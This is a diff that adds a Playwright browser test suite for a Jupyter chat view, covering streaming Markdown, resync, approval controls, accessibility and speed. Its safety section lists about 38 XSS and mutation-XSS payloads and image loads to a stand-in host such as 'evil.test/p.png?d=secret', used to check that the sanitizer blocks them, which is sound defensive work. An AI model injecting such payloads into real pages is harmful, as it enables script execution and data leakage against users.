@@ -1,0 +1,552 @@
+"""The view itself in a real browser, fed by hand: drawing, healing, safety, accessibility, speed."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from labs import BUILD, CHROMIUM, browser
+
+STATIC = Path(__file__).parents[2] / "kit_jupyter" / "jupyter" / "static"
+AXE = Path(__file__).parents[2] / "labextension" / "node_modules" / "axe-core" / "axe.min.js"
+
+pytestmark = [
+    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed"),
+    pytest.mark.skipif(not (STATIC / "render.js").exists(), reason="render.js is not built (npm run build:modules)"),
+]
+
+HTML = """<!doctype html><html lang="en"><head><title>kit</title><meta charset="utf-8"><style>%s
+body{background:var(--jp-layout-color1,#fff)}</style></head>
+<body %s><main><div id="at"></div></main><script>window.ran = 0</script></body></html>"""
+
+DARK = """:root{--jp-ui-font-color1:rgba(255,255,255,.87);--jp-ui-font-color2:rgba(255,255,255,.7);
+--jp-layout-color1:#212121;--jp-layout-color2:#424242;--jp-border-color2:#616161;--jp-border-color1:#757575;
+--jp-brand-color1:#2196f3;--jp-error-color0:#ef9a9a;--jp-content-link-color:#90caf9;--jp-success-color0:#a5d6a7;
+--jp-input-background:#424242}"""
+HIGH = """:root{--jp-ui-font-color1:#fff;--jp-ui-font-color2:#fff;--jp-layout-color1:#000;--jp-layout-color2:#000;
+--jp-border-color2:#fff;--jp-border-color1:#fff;--jp-brand-color1:#ff0;--jp-error-color0:#ff8080;
+--jp-content-link-color:#ff0;--jp-success-color0:#80ff80;--jp-input-background:#000}"""
+
+
+class View:
+    """A page with one view, and the kernel's part played by the test."""
+
+    def __init__(self, chromium: Any, *, view: dict[str, Any], css: str = "", body: str = "", render: bool = True) -> None:
+        self.context = chromium.new_context(viewport={"width": 900, "height": 700})
+        self.page = self.context.new_page()
+        self.outside: list[str] = []
+        self.errors: list[str] = []
+        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
+        self.page.route("**/*", self._serve)
+        self._html = HTML % (css, body)
+        self.page.goto("http://kit.test/")
+        self.page.evaluate(
+            """async ([view, render]) => {
+              window.__kit__ = render ? {loadRender: () => import('/render.js')} : {renderAbsent: true};
+              const chat = await import('/chat.js');
+              window.sent = []; window.fns = new Set();
+              window.model = {get: () => view, on: (_, f) => fns.add(f), off: (_, f) => fns.delete(f), send: m => sent.push(m)};
+              window.end = chat.mount({model, el: document.getElementById('at')});
+              window.chat = chat;
+              window.say = f => fns.forEach(g => g(f));
+              if (render) __kit__.render ??= await import('/render.js');
+            }""",
+            [view, render],
+        )
+        self.n = view.get("n", 0)
+
+    def _serve(self, route: Any) -> None:
+        url = route.request.url
+        name = url.removeprefix("http://kit.test/")
+        if name in ("chat.js", "render.js"):
+            route.fulfill(body=(STATIC / name).read_text(), content_type="text/javascript")
+        elif name == "":
+            route.fulfill(body=self._html, content_type="text/html")
+        elif url.startswith(("data:", "blob:")):
+            route.continue_()
+        else:
+            if "favicon" not in url:
+                self.outside.append(url)
+            route.abort()
+
+    def say(self, *messages: dict[str, Any]) -> None:
+        self.n += 1
+        self.page.evaluate("f => say(f)", {"n": self.n, "m": list(messages)})
+        self.frame()
+
+    def frame(self) -> None:
+        self.page.evaluate("() => new Promise(ok => requestAnimationFrame(() => requestAnimationFrame(ok)))")
+
+    def answer(self, text: str, *, done: bool = True) -> None:
+        """Show one whole answer."""
+        item = {"id": f"i{self.n}", "kind": "text"}
+        key = f"k{self.n}"
+        self.say({"kind": "start", "turn": turn(key)}, {"kind": "commit", "turn": key, "item": item, "sizes": {}})
+        self.say({"kind": "delta", "d": [[item["id"], "text", 0, text]]})
+        if done:
+            units = len(text.encode("utf-16-le", "surrogatepass")) // 2
+            self.say({"kind": "commit", "turn": key, "item": {**item, "done": True}, "sizes": {"text": units}})
+            self.say({"kind": "end", "turn": key, "status": "done", "error": None, "facts": {}, "sizes": {}})
+            self.frame()
+
+    @property
+    def text(self) -> str:
+        return str(self.page.locator(".kit-view").inner_text())
+
+    @property
+    def sent(self) -> list[dict[str, Any]]:
+        return list(self.page.evaluate("() => sent"))
+
+    def close(self) -> None:
+        self.context.close()
+
+
+def turn(key: str = "t1", **more: Any) -> dict[str, Any]:
+    facts = {"prompt": "ask", "mode": "prompt", "status": "running", "chips": [], "note": "", "error": None, "facts": {}}
+    return {"key": key, **facts, **more}
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    with browser() as it:
+        yield it
+
+
+@pytest.fixture
+def view(chromium: Any) -> Iterator[View]:
+    it = View(chromium, view={"n": 0, "turns": [], "bar": {}})
+    yield it
+    assert it.errors == []
+    it.close()
+
+
+# ---------------------------------------------------------------- growing and healing
+
+
+def test_text_grows_and_becomes_markdown(view: View) -> None:
+    """Point 5: Markdown as it streams; closed paragraphs keep their nodes (U4)."""
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "text"}, "sizes": {}})
+    view.say({"kind": "delta", "d": [["a", "text", 0, "# Head\n\nfirst **bold**\n\n"]]})
+    view.say({"kind": "delta", "d": [["a", "text", 24, "sec"]]})
+    view.page.evaluate("() => { window.kept = document.querySelector('.kit-md strong'); }")
+    text = "ond `code` and $x^2$\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
+    at = 27
+    for piece in text:
+        view.page.evaluate("f => say(f)", {"n": view.n + 1, "m": [{"kind": "delta", "d": [["a", "text", at, piece]]}]})
+        view.n += 1
+        at += 1
+    view.frame()
+    view.say({"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "text", "done": True}, "sizes": {"text": at}})
+
+    assert view.page.evaluate("() => window.kept.isConnected")
+    for selector in ("h1", "strong", "code", "math", "pre .hljs-built_in", "table td"):
+        assert view.page.locator(f".kit-view {selector}").count() >= 1, selector
+    assert not [m for m in view.sent if m.get("n") == -1], "asked for the whole though nothing was lost"
+
+
+def test_a_lost_frame_heals(view: View) -> None:
+    """Speed row 16: a gap in the numbers asks for the whole, and the whole is drawn."""
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "text"}, "sizes": {}})
+    view.n += 1  # this one was dropped on the way
+    view.say({"kind": "delta", "d": [["a", "text", 5, "world"]]})
+
+    assert view.sent[-1] == {"kind": "ask", "what": "sync", "n": -1}
+    whole = turn(items=[{"id": "a", "kind": "text", "text": "hello world"}])
+    view.n += 1
+    view.page.evaluate("f => say(f)", {"n": view.n, "m": [{"kind": "state", "view": {"n": view.n, "turns": [whole], "bar": {}}}]})
+    view.frame()
+    view.say({"kind": "delta", "d": [["a", "text", 11, "!"]]})
+    assert "hello world!" in view.text
+
+
+def test_a_wrong_length_heals(view: View) -> None:
+    """Speed row 16: the last frame carries a check."""
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "text"}, "sizes": {}})
+    view.say({"kind": "delta", "d": [["a", "text", 0, "short"]]})
+    view.say({"kind": "end", "turn": "t1", "status": "done", "error": None, "facts": {}, "sizes": {"a": {"text": 9}}})
+
+    assert view.sent[-1] == {"kind": "ask", "what": "sync", "n": -1}
+
+
+def test_offsets_count_as_browsers_do(view: View) -> None:
+    """Design §8: offsets are UTF-16 units; emoji and combining text arrive whole."""
+    from kit_jupyter.jupyter.protocol import utf16_units
+
+    parts = ["a😀", "e\u0301 ", "עברית ", "👩‍👩‍👧 ", "z"]
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "text"}, "sizes": {}})
+    at = 0
+    for part in parts:
+        view.say({"kind": "delta", "d": [["a", "text", at, part]]})
+        at += utf16_units(part)
+
+    assert "".join(parts).strip() in view.text
+    assert not [m for m in view.sent if m.get("n") == -1]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "```python\nnever closed\n" + "x = 1\n" * 20,
+        "x" * 1_000_000,
+        "> " * 5000 + "deep",
+        "[" * 50_000,
+        "*a " * 20_000,
+        "- " * 3000 + "list",
+        "| a |\n" * 3000,
+        "```\n" + "line\n" * 10_000 + "```\n",
+        "\u202e right to left \u202c e\u0301\u0301\u0301 \u0000 \u0007 \ufeff",
+        "$" + "\\frac{1}{" * 500 + "$",
+        "![x](data:image/png;base64," + "A" * 2_000_000 + ")",
+        "a\n\n" * 5000,
+    ],
+    ids=["fence", "1MB line", "quotes", "brackets", "stars", "lists", "table", "10k lines", "rtl", "tex", "data", "blocks"],
+)
+def test_hard_answers_are_shown(view: View, text: str) -> None:
+    """Bad input: none of them freezes the page or loses the text."""
+    view.answer(text)
+
+    assert view.page.evaluate("() => document.querySelector('.kit-text').textContent.length > 0 || !!document.querySelector('.kit-text img')")
+
+
+# ---------------------------------------------------------------- safety
+
+XSS = [
+    "<script>ran++</script>",
+    "<img src=x onerror=ran++>",
+    "<svg onload=ran++><animate onbegin=ran++ attributeName=x dur=1s></svg>",
+    "[x](javascript:ran++)",
+    "[x](JaVaScRiPt&#58;ran++)",
+    "[x](data:text/html,<script>ran++</script>)",
+    "<a href='javascript:ran++'>x</a>",
+    "![x](https://evil.test/p.png)",
+    "![x](http://evil.test/p.png?d=secret)",
+    "![a][r]\n\n[r]: https://evil.test/ref.png",
+    "<https://evil.test/auto>",
+    "<iframe srcdoc='<script>parent.ran++</script>'></iframe>",
+    "<iframe src=https://evil.test></iframe>",
+    "<link rel=stylesheet href=https://evil.test/a.css>",
+    "<style>@import 'https://evil.test/b.css'; body{background:url(https://evil.test/c)}</style>",
+    "<div style='background:url(https://evil.test/d)'>x</div>",
+    "<video src=https://evil.test/v autoplay></video><audio src=https://evil.test/a></audio>",
+    "<form action=https://evil.test><input name=x autofocus onfocus=ran++></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=ran++>",
+    "<details open ontoggle=ran++><summary>x</summary></details>",
+    "<base href=https://evil.test>",
+    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
+    "<object data=https://evil.test></object><embed src=https://evil.test>",
+    "$\\href{javascript:ran++}{x}$ $\\includegraphics{https://evil.test/i.png}$ $\\htmlData{onclick=ran++}{x}$",
+    "$$\\url{javascript:ran++}$$",
+    "```html\n<script>ran++</script>\n```",
+    "```\"><img src=x onerror=ran++>\ncode\n```",
+    "`<img src=x onerror=ran++>`",
+    "| <img src=x onerror=ran++> |\n|---|\n| <script>ran++</script> |",
+    "<p><noscript><p title='</noscript><img src=x onerror=ran++>'>",
+    "<!--><img src=x onerror=ran++>-->",
+    "<?xml x?><x onclick=ran++>",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+    "<img srcset='https://evil.test/s 1x' src=''>",
+    "[![x](https://evil.test/n.png)](https://evil.test)",
+    "<input type=image src=https://evil.test/im>",
+    "<body background=https://evil.test/bg>",
+    "<img id=__kit__ name=model><a id=fns>",
+]
+
+
+@pytest.mark.parametrize("text", XSS)
+def test_hostile_markdown_does_nothing(view: View, text: str) -> None:
+    """Point 5 and design §8: no script runs, no request goes out, in the answer and everywhere else."""
+    view.answer(f"before\n\n{text}\n\nafter")
+    tool = {
+        "id": "tool", "kind": "tool", "name": text, "status": "done", "result": text, "call_id": "c",
+        "question": {"text": text, "suggestion": text, "arguments": text}, "diff": text,
+        "media": [{"type": "text/html", "name": text, "data": "PGI+"}, {"type": "image/svg+xml", "name": "s", "data": "PHN2ZyBvbmxvYWQ9InJhbisrIi8+"}],
+    }  # fmt: skip
+    view.say(
+        {"kind": "start", "turn": turn("h", prompt=text, note=text, chips=[{"mark": text, "size": text, "preview": text}], error={"message": text})},
+        {"kind": "commit", "turn": "h", "item": tool, "sizes": {}},
+        {"kind": "commit", "turn": "h", "item": {"id": "s", "kind": "said", "text": text, "mode": "steer"}, "sizes": {}},
+        {"kind": "commit", "turn": "h", "item": {"id": "n", "kind": "notice", "text": text, "level": "error"}, "sizes": {}},
+        {"kind": "state", "bar": {"queue": {"steering": [text]}, "tasks": [{"text": text}], "model": text}},
+    )
+    view.page.wait_for_timeout(30)
+
+    assert view.page.evaluate("() => window.ran") == 0
+    assert view.outside == []
+    bad = view.page.evaluate(
+        "() => [...document.querySelectorAll('.kit-view *')].filter(e => ['SCRIPT','IFRAME','OBJECT','EMBED','LINK','META','BASE',"
+        "'FORM','STYLE'].includes(e.tagName) || [...e.attributes].some(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)"
+        " || (a.name === 'src' && !a.value.startsWith('data:image/')))).map(e => e.outerHTML.slice(0, 120))"
+    )
+    assert bad == []
+    links = view.page.evaluate("() => [...document.querySelectorAll('.kit-view a[href]')].map(a => [a.protocol, a.rel, a.target])")
+    assert all(p in ("http:", "https:", "mailto:") and "noopener" in rel and t == "_blank" for p, rel, t in links)
+
+
+def test_a_remote_picture_waits_for_a_click(view: View) -> None:
+    """Design §8: no remote loads without a click; the click says where it goes."""
+    view.answer("![plot](https://pictures.test/p.png)")
+    assert view.outside == []
+
+    view.page.get_by_role("button", name="Load “plot” from pictures.test").click()
+    view.page.wait_for_timeout(100)
+
+    assert view.outside == ["https://pictures.test/p.png"]
+
+
+# ---------------------------------------------------------------- cards and controls
+
+
+def test_long_results_are_bounded_and_nothing_is_lost(view: View) -> None:
+    """U9: 10,000 lines show 20 and say how many more; the rest comes on request."""
+    lines = "\n".join(f"line {i}" for i in range(10_000))
+    item = {"id": "x", "kind": "tool", "call_id": "c", "name": "t", "status": "done", "result": lines, "done": True}
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": item, "sizes": {}})
+    view.page.locator(".kit-tool summary").first.click()
+
+    button = view.page.get_by_role("button", name="show 9980 more lines")
+    assert button.inner_text() == "9,980 more lines"
+    assert "line 20" not in view.page.locator(".kit-res").inner_text()
+    button.click()
+    assert "line 500" in view.page.locator(".kit-res").inner_text()
+
+
+def test_thinking_is_open_while_it_comes_and_folded_after(view: View) -> None:
+    """U9."""
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "thinking"}, "sizes": {}})
+    view.say({"kind": "delta", "d": [["a", "text", 0, "let me see"]]})
+    assert view.page.locator("details[open]").count() == 1
+
+    view.say({"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "thinking", "done": True}, "sizes": {"text": 10}})
+
+    assert view.page.locator("details[open]").count() == 0
+    assert "let me see" in view.page.locator("details").inner_html()
+
+
+def _ask(view: View) -> None:
+    item = {
+        "id": "q", "kind": "tool", "call_id": "call1", "name": "drop", "status": "asking", "arguments": '{"a":1}',
+        "question": {"text": "Run drop?", "suggestion": "drop *", "arguments": '{"a": 1}'},
+    }  # fmt: skip
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": item, "sizes": {}})
+
+
+@pytest.mark.parametrize(
+    ("keys", "want"),
+    [
+        (["Approve"], {"allow": True, "scope": "once", "arguments": None}),
+        (["Always: drop *"], {"allow": True, "scope": "always", "arguments": None}),
+        (["Deny"], {"allow": False}),
+    ],
+)
+def test_approval_by_keyboard_alone(view: View, keys: list[str], want: dict[str, Any]) -> None:
+    """U115, U60: the bar is reached with Tab, and answered with Enter."""
+    _ask(view)
+    for _ in range(30):
+        view.page.keyboard.press("Tab")
+        if view.page.evaluate("() => document.activeElement.textContent") == keys[0]:
+            break
+    assert view.page.evaluate("() => getComputedStyle(document.activeElement).outlineStyle") != "none"
+    view.page.keyboard.press("Enter")
+
+    said = [m for m in view.sent if m["kind"] == "approve"]
+    assert len(said) == 1
+    assert said[0]["call"] == "call1"
+    assert {key: said[0][key] for key in want} == want
+
+
+def test_deny_with_a_reason_and_edit_arguments(view: View) -> None:
+    """U60: the reason goes along; edited arguments must be JSON."""
+    _ask(view)
+    view.page.get_by_role("button", name="Edit arguments").click()
+    box = view.page.get_by_label("Edited arguments, JSON")
+    box.fill("{nonsense")
+    view.page.get_by_role("button", name="Approve", exact=True).click()
+    assert not [m for m in view.sent if m["kind"] == "approve"]
+    assert "not JSON" in view.text
+    box.fill('{"a": 2}')
+    view.page.get_by_role("button", name="Approve", exact=True).click()
+    assert [m["arguments"] for m in view.sent if m["kind"] == "approve"] == [{"a": 2}]
+
+
+def test_a_click_does_not_move_the_page(chromium: Any) -> None:
+    """U12: approving changes `scrollTop` by nothing."""
+    view = View(chromium, view={"n": 0, "turns": [], "bar": {}})
+    view.answer("para\n\n" * 60)
+    _ask(view)
+    view.page.evaluate("() => document.querySelector('.kit-approval').scrollIntoView()")
+    before = view.page.evaluate("() => scrollY")
+
+    view.page.get_by_role("button", name="Approve", exact=True).click()
+    view.say({"kind": "approval", "turn": "t1", "call": "q", "question": None})
+    view.say({"kind": "commit", "turn": "t1", "item": {"id": "q", "kind": "tool", "status": "running", "question": None}, "sizes": {}})
+
+    assert abs(view.page.evaluate("() => scrollY") - before) <= 1
+    view.close()
+
+
+def test_steer_and_stop(view: View) -> None:
+    """U16, U26: while a turn runs there is a box to steer and a button to stop, and only then."""
+    view.say({"kind": "start", "turn": turn()})
+    view.page.get_by_label("Steer the running turn").fill("be brief")
+    view.page.keyboard.press("Enter")
+    view.page.get_by_role("button", name="Stop").click()
+    view.say({"kind": "end", "turn": "t1", "status": "stopped", "error": None, "facts": {}, "sizes": {}})
+
+    kinds = [(m["kind"], m.get("text")) for m in view.sent if m["kind"] != "ask"]
+    assert kinds == [("steer", "be brief"), ("abort", None)]
+    assert not view.page.get_by_role("button", name="Stop").is_visible()
+    assert "stopped" in view.text
+
+
+def test_every_printable_key_stays_in_the_box(chromium: Any) -> None:
+    """U96: no key reaches the notebook; the text is exact."""
+    view = View(chromium, view={"n": 0, "turns": [], "bar": {"model": "m/x"}, "panel": True})
+    view.page.evaluate("() => { window.leaked = []; document.addEventListener('keydown', e => leaked.push(e.key)); }")
+    box = view.page.get_by_label("Prompt")
+    box.focus()
+    ascii_set = "".join(chr(c) for c in range(32, 127))
+    view.page.keyboard.type(ascii_set)
+    view.page.keyboard.press("Shift+Enter")
+    view.page.keyboard.type("two")
+
+    assert box.input_value() == ascii_set + "\ntwo"
+    assert view.page.evaluate("() => leaked") == []
+    assert view.page.locator("[data-lm-suppress-shortcuts]").count() == 1
+    view.page.keyboard.press("Enter")
+    assert [m["text"] for m in view.sent if m["kind"] == "submit"] == [ascii_set + "\ntwo"]
+    view.close()
+
+
+def test_marks_complete_and_show_what_is_sent(chromium: Any) -> None:
+    """U52: `@` lists variables; a chip's preview is what will be sent."""
+    view = View(chromium, view={"n": 0, "turns": [], "bar": {"model": "m/x"}, "panel": True})
+    box = view.page.get_by_label("Prompt")
+    box.focus()
+    view.page.keyboard.type("look at @d")
+    view.say({"kind": "state", "completions": {"text": "d", "names": ["df", "data"]}})
+    view.page.keyboard.press("ArrowDown")
+    view.page.keyboard.press("ArrowUp")
+    view.page.keyboard.press("Enter")
+    assert box.input_value() == "look at @df "
+    view.page.wait_for_function("() => sent.some(m => m.what === 'chip' && m.mark === 'df')")
+    view.say({"kind": "state", "chip": {"mark": "df", "kind": "DataFrame", "size": "12 characters", "preview": "a  b\n1  2"}})
+    view.page.locator(".kit-foot .kit-chip summary").click()
+
+    assert "a  b\n1  2" in view.page.locator(".kit-foot .kit-chip").inner_text()
+    view.close()
+
+
+def test_the_panel_follows_unless_the_reader_scrolled_up(chromium: Any) -> None:
+    """U7: at the bottom it follows; scrolled up it stays, and offers to jump."""
+    view = View(chromium, view={"n": 0, "turns": [], "bar": {}, "panel": True})
+    view.say({"kind": "start", "turn": turn()}, {"kind": "commit", "turn": "t1", "item": {"id": "a", "kind": "text"}, "sizes": {}})
+    block, at = "paragraph\n\n" * 30, 0
+
+    def grow() -> None:
+        nonlocal at
+        view.say({"kind": "delta", "d": [["a", "text", at, block]]})
+        at += len(block)
+        view.page.wait_for_timeout(60)
+
+    rest = "() => { const l = document.querySelector('.kit-log'); return l.scrollHeight - l.scrollTop - l.clientHeight; }"
+    for _ in range(3):
+        grow()
+    assert view.page.evaluate(rest) < 5
+    view.page.locator(".kit-log").hover()
+    view.page.mouse.wheel(0, -400)
+    view.page.wait_for_timeout(150)
+    before = view.page.evaluate("() => document.querySelector('.kit-log').scrollTop")
+    for _ in range(3):
+        grow()
+
+    assert abs(view.page.evaluate("() => document.querySelector('.kit-log').scrollTop") - before) < 3
+    view.page.get_by_role("button", name="Jump to latest").click()
+    view.page.wait_for_timeout(60)
+    assert view.page.evaluate(rest) < 5
+    view.close()
+
+
+def test_a_saved_turn_needs_no_kernel(view: View) -> None:
+    """Point 7: the bundle is drawn by the same module; nothing to press that needs a kernel."""
+    bundle = {"version": 1, "turn": {"prompt": "p", "mode": "prompt", "status": "done", "items": [
+        {"kind": "thinking", "text": "hm"}, {"kind": "tool", "name": "f", "status": "done", "result": "r", "arguments": "{}"},
+        {"kind": "text", "text": "It is **five**."}]}}  # fmt: skip
+    view.page.evaluate("b => { const el = document.createElement('div'); el.id = 'saved'; document.querySelector('main').append(el); chat.mountSaved({bundle: b, el}); }", bundle)
+    view.frame()
+    view.frame()
+
+    saved = view.page.locator("#saved")
+    assert saved.locator("strong").inner_text() == "five"
+    assert saved.get_by_role("button", name="Stop").count() == 0
+    assert saved.locator("textarea:visible").count() == 0
+
+
+def test_without_the_renderer_text_is_text(chromium: Any) -> None:
+    """Point 6: no renderer, no HTML: the text as it is."""
+    view = View(chromium, view={"n": 0, "turns": [], "bar": {}}, render=False)
+    view.answer("**bold** <script>ran++</script>")
+
+    assert "**bold** <script>ran++</script>" in view.text
+    assert view.page.evaluate("() => window.ran") == 0
+    view.close()
+
+
+# ---------------------------------------------------------------- accessibility
+
+
+@pytest.mark.parametrize("theme", ["light", "dark", "high"])
+def test_axe_finds_nothing(chromium: Any, theme: str) -> None:
+    """U114, U116: names and contrast in light, dark and high contrast; live region for start and end only."""
+    if not AXE.exists():
+        pytest.skip("axe-core is not installed (npm ci in labextension)")
+    css = {"light": "", "dark": DARK, "high": HIGH}[theme]
+    body = "" if theme == "light" else 'data-jp-theme-light="false"'
+    view = View(chromium, view={"n": 0, "turns": [], "bar": {"model": "a/b", "models": ["a/b", "a/c"], "session": "main",
+        "queue": {"steering": ["x"], "follow_up": ["y"], "returned": ["z"]}, "tasks": [{"text": "one", "status": "done"}]},
+        "panel": True}, css=css, body=body)  # fmt: skip
+    view.answer("# H\n\ntext [link](https://a.test) `code`\n\n```python\n# c\nimport x\nx = 'a' + f(1)\n```\n\n| a |\n|---|\n| 1 |\n\n$x$\n")
+    _ask(view)
+    view.say({"kind": "start", "turn": turn("e", status="error", error={"message": "it broke"}, note="a small model", chips=[{"mark": "df", "size": "3", "preview": "x"}])})
+    view.page.evaluate(AXE.read_text())
+    found = view.page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")
+
+    assert [(v["id"], v["impact"], [n["html"][:120] for n in v["nodes"]]) for v in found if v["impact"] in ("serious", "critical")] == []
+    assert view.page.evaluate("() => [...document.querySelectorAll('[aria-live=polite], [aria-live=assertive]')].length") == 1
+    BUILD.mkdir(parents=True, exist_ok=True)
+    view.page.screenshot(path=str(BUILD / f"panel-{theme}.png"), full_page=True)
+    view.close()
+
+
+# ---------------------------------------------------------------- speed
+
+
+def test_200_kb_in_view_at_200_deltas_a_second(view: View) -> None:
+    """Speed: drawing stays smooth with 200 kB of Markdown in view; generous bounds for a shared machine."""
+    para = "Some **bold** words and `code` in a paragraph that is about a hundred characters long, really so.\n\n"
+    view.answer(para * 2000, done=False)
+    item = view.page.evaluate("() => sent.length")
+    assert item >= 1
+    result = view.page.evaluate(
+        """async ([start, para, n]) => {
+          let at = start, frames = 0, worst = 0, last = performance.now(), stop = false;
+          const tick = t => { frames++; worst = Math.max(worst, t - last); last = t; if (!stop) requestAnimationFrame(tick); };
+          requestAnimationFrame(tick);
+          const begin = performance.now();
+          for (let i = 0; i < 400; i++) {
+            const piece = para.slice((i * 20) % para.length, (i * 20) % para.length + 20);
+            say({n: ++n, m: [{kind: 'delta', d: [['i0', 'text', at, piece]]}]}); at += piece.length;
+            await new Promise(ok => setTimeout(ok, 5));
+          }
+          stop = true;
+          return {fps: frames / ((performance.now() - begin) / 1000), worst, asked: sent.filter(m => m.n === -1).length};
+        }""",
+        [len(para) * 2000, para, view.n],
+    )
+
+    print(json.dumps(result))
+    assert result["asked"] == 0
+    assert result["fps"] > 15
+    assert result["worst"] < 1500
